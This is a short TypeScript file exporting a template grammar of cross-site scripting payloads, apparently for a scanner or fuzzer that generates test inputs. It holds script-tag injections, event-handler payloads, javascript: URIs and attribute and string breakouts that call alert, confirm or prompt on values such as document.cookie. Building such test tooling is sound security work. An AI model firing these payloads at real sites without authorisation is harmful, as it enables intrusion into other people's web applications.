/** Cross-site scripting. */
export const XSS = String.raw`
js: alert(‹1¦document.cookie¦document.domain¦'‹rnd›'¦‹n››)
  confirm(‹n›)
  prompt(‹n›)
xss/script 4: <script>‹js›</script>
  "><script>‹js›</script>
xss/handler 5: <‹img src=x¦svg¦body¦iframe› on‹load¦error¦focus¦click›=‹js›>
xss/uri 2: javascript:‹js›
xss/attribute 3: " on‹mouseover¦focus¦click›="‹js›
xss/breakout 2: ';‹js›//
`
